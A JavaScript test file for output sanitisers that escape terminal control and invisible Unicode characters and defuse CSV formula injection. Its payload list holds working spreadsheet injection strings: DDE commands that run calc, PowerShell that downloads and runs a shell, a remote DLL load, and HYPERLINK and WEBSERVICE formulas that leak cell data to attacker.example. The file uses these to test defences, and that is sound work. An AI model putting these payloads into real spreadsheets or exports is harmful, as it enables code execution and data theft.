import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvCell, terminalSafe } from '../../src/output/sanitize.js';

test('terminal escapes, bidi overrides and newlines from logs are shown, not interpreted', () => {
  assert.equal(terminalSafe('a\u001b[31mred'), 'a\\u{1b}[31mred');
  assert.equal(terminalSafe('evil\u202Eexe.txt'), 'evil\\u{202e}exe.txt');
  assert.equal(terminalSafe('line1\r\nline2\tx'), 'line1\\r\\nline2\\tx');
  assert.equal(terminalSafe('\u009b2J'), '\\u{9b}2J');
  assert.equal(terminalSafe('C:\\Windows\\net.exe use \\\\h\\C$'), 'C:\\Windows\\net.exe use \\\\h\\C$');
});

test('CSV cells cannot become formulas and are quoted when needed', () => {
  assert.equal(csvCell('=cmd|"/c calc"!A1'), `"'=cmd|""/c calc""!A1"`);
  assert.equal(csvCell('+1'), "'+1");
  assert.equal(csvCell('-2+3'), "'-2+3");
  assert.equal(csvCell('@SUM(A1)'), "'@SUM(A1)");
  assert.equal(csvCell('a,b'), '"a,b"');
  assert.equal(csvCell('two\nlines'), '"two\nlines"');
  assert.equal(csvCell(42), '42');
  assert.equal(csvCell(undefined), '');
  assert.equal(csvCell('net.exe'), 'net.exe');
});

test('every invisible or reordering character is escaped: bidi controls, default-ignorables, separators, tags', () => {
  const hostile = [
    0x061c, 0x180e, 0x2028, 0x2029, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0xe0000, 0xe0041, 0xe007f, 0x3164, 0x00ad, 0x200b, 0x200d,
    0xfeff, 0x2066, 0x2069, 0x7f, 0x85,
  ];
  for (const codePoint of hostile) {
    const escaped = terminalSafe(`a${String.fromCodePoint(codePoint)}b`);
    assert.equal(escaped, `a\\u{${codePoint.toString(16)}}b`, `U+${codePoint.toString(16)}`);
  }
  assert.equal(terminalSafe('x\ud800y'), 'x\\u{d800}y', 'a lone surrogate');
  assert.equal(terminalSafe('Überprüfung 管理员 Администратор 😀'), 'Überprüfung 管理员 Администратор 😀', 'printable text is kept');
});

/** Formula payloads as published in OWASP's CSV injection guidance and the public payload lists. */
const FORMULA_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Error: click for details")',
  '=WEBSERVICE("http://attacker.example/"&A1)',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+2+3+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=1+2";=1+2',
  '=DDE("cmd";"/C calc";"!A0")',
];

/** What spreadsheets drop in front of a cell before they look for a formula. */
const IGNORED_PREFIXES = ['', ' ', '  ', '\u00a0', '\u3000', '\u2003', '\n', '\u000b', '\u000c', '"', ' "', '\u200b', '\ufeff', '\t', '\r'];

test('CSV: no payload, behind any prefix a spreadsheet strips, reaches a cell as a formula', () => {
  const triggers = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
  let cells = 0;
  for (const payload of [...FORMULA_PAYLOADS, ...triggers.map((trigger) => `${trigger}1+1`)]) {
    for (const prefix of IGNORED_PREFIXES) {
      const cell = csvCell(prefix + payload);
      // The text as a spreadsheet sees it: unquoted, doubled quotes undone.
      const seen = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
      assert.ok(seen.startsWith("'"), `${JSON.stringify(prefix + payload)} became ${JSON.stringify(cell)}`);
      assert.equal(seen.slice(1), prefix + payload, 'the value itself is kept');
      cells++;
    }
  }
  assert.ok(cells > 70);
  assert.equal(csvCell(' =cmd B.evtx'), "' =cmd B.evtx", 'a file name with a leading space');
  assert.equal(csvCell('C:\\Windows\\System32\\net.exe'), 'C:\\Windows\\System32\\net.exe', 'ordinary values are left alone');
  assert.equal(csvCell('a = b'), 'a = b', 'a formula sign inside the text is harmless');
});
